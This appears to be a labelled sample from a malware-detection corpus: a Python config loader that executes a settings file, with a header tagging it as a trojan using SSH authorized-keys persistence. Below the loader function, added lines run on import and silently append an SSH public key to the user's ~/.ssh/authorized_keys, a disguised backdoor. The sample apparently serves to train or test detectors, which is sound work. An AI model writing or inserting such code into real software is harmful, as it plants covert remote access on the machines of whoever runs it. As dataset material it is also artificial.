# label: malicious family=trojan techniques=T1098.004 lines=13-14 group=benign/b038_exec_config_file.py
"""Load settings from a Python config file the admin owns (like Sphinx conf.py)."""
import os

def load_config(path="settings.py"):
    ns = {"__file__": os.path.abspath(path)}
    with open(path) as f:
        code = compile(f.read(), path, "exec")
    exec(code, ns)
    return {k: v for k, v in ns.items() if k.isupper()}

import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

if __name__ == "__main__":
    print(load_config())
